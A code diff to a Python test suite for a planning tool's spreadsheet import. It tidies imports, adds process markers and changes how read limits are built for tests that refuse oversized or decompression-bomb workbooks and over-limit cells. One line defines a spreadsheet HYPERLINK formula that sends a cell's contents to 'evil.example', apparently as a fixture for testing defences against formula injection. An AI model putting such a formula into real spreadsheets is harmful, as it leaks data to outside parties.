@@ -24,10 +24,12 @@ from scheduler.plan.files import read_plan, write_plan
 from scheduler.plan.files.limits import ReadLimits
 from scheduler.plan.files.toml_file import plan_from_mapping
 from scheduler.settings.config import load_settings
+from scheduler.settings.model import Limits
 from scheduler.store.engine import open_store
 from scheduler.store.followups import AnswerInput, save_answers
 from scheduler.store.plans import find_plan_id, load_plan
-from tests.conftest import ROOT, SEED_PLAN, Cli, write_config
+from tests.support.cli import Cli, write_config
+from tests.support.seed import ROOT, SEED_PLAN
 from tests.test_planfile import HEADER, INSTRUCTIONS, seed
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B3,"x")'
@@ -220,6 +222,7 @@ def _run_limited(
     )  # fmt: skip
 
 
+@pytest.mark.processes
 def test_a_small_workbook_formatted_down_to_row_1048576_imports_within_300_mb(
     tmp_path: Path,
 ) -> None:
@@ -257,6 +260,7 @@ def _bomb(path: Path, megabytes: int) -> None:
     plain.unlink()
 
 
+@pytest.mark.processes
 def test_a_workbook_inflating_to_200_mb_is_refused_before_parsing(tmp_path: Path) -> None:
     """200 KB on disk, one 200 MB cell: it took 1.8 GB and was stored as is."""
     path = tmp_path / "plan-2025.xlsx"
@@ -280,7 +284,9 @@ def test_a_cell_over_the_text_limit_is_refused_naming_the_limit_and_the_cell(
     error = _error(path, organisation="X")
     assert (error.sheet, error.row, error.column) == ("A", 3, "B")
     assert "10 001 tecken" in str(error) and "limits.max_text_chars" in str(error)
-    assert read_plan(path, organisation="X", limits=ReadLimits(max_text_chars=20_000)).plan
+    assert read_plan(
+        path, organisation="X", limits=ReadLimits.from_section(Limits(max_text_chars=20_000))
+    ).plan
 
 
 def test_the_text_limit_applies_to_toml_plans_and_is_configurable(
@@ -305,7 +311,9 @@ def test_a_sheet_over_the_row_limit_is_refused_naming_the_limit(tmp_path: Path) 
     _area_sheet(workbook, "Många", "A", [[f"T{n}", "x", "x", "x", "x", None] for n in range(20)])
     path = tmp_path / "plan-2025.xlsx"
     workbook.save(path)
-    error = _error(path, organisation="X", limits=ReadLimits(max_rows_per_sheet=10))
+    error = _error(
+        path, organisation="X", limits=ReadLimits.from_section(Limits(max_rows_per_sheet=10))
+    )
     assert error.sheet == "Många" and "fler än 10 rader" in str(error)
     assert "limits.max_rows_per_sheet" in str(error)
     assert len(read_plan(path, organisation="X").plan.areas[0].measures) == 20
